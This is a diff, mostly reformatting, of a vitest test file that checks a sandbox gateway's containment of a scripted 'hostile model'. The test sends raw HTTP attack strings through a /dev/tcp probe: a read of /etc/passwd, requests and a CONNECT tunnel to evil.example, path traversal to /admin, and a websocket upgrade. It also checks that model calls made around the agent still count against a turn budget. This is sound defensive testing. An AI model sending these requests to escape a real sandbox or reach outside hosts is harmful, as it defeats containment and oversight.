@@ -6,13 +6,7 @@ import dgram from "node:dgram";
 import net from "node:net";
 import os from "node:os";
 import { describe, expect, it } from "vitest";
-import {
-  bash,
-  describeOutcome,
-  finish,
-  runHostile,
-  useHostileModelServer,
-} from "../support/hostile-model.js";
+import { bash, describeOutcome, finish, runHostile, useHostileModelServer } from "../support/hostile-model.js";
 
 const server = useHostileModelServer();
 
@@ -80,12 +74,16 @@ describe.concurrent("network", () => {
   it("the gateway refuses every non-model request (other paths, other hosts, tunnels) and logs gateway.refused", async () => {
     const attempts: Record<string, string> = {
       "unknown-route": "GET /etc/passwd HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n",
-      "other-path": "POST /scripted/files HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
+      "other-path":
+        "POST /scripted/files HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
       "other-host": "GET http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n",
-      "tunnel": "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n",
-      "traversal": "POST /scripted/chat/completions/../../../admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
-      "encoded-traversal": "POST /scripted/%2e%2e/%2e%2e/admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
-      "upgrade": "GET /scripted/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n",
+      tunnel: "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n",
+      traversal:
+        "POST /scripted/chat/completions/../../../admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
+      "encoded-traversal":
+        "POST /scripted/%2e%2e/%2e%2e/admin HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}",
+      upgrade:
+        "GET /scripted/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n",
     };
     const script = [
       'probe() { exec 3<>/dev/tcp/127.0.0.1/18080 || { echo "$1=connect-failed"; return; }; printf "%b" "$2" >&3; echo "$1=$(timeout 5 head -1 <&3 | tr -d "\\r")"; exec 3<&- 3>&-; }',
@@ -107,7 +105,10 @@ describe.concurrent("network", () => {
   it("model calls that bypass Pi count against the turn budget at the gateway: the one past it never reaches the upstream", async () => {
     // Code in the sandbox calls the gateway itself, with another model id so Pi's script is untouched.
     const direct = `direct-${Date.now().toString(36)}`;
-    server.setScript(direct, Array.from({ length: 6 }, (_, i) => ({ text: `direct answer ${i}` })));
+    server.setScript(
+      direct,
+      Array.from({ length: 6 }, (_, i) => ({ text: `direct answer ${i}` })),
+    );
     const body = JSON.stringify({ model: direct, messages: [{ role: "user", content: "spend" }] });
     const script = [
       `body='${body}'`,
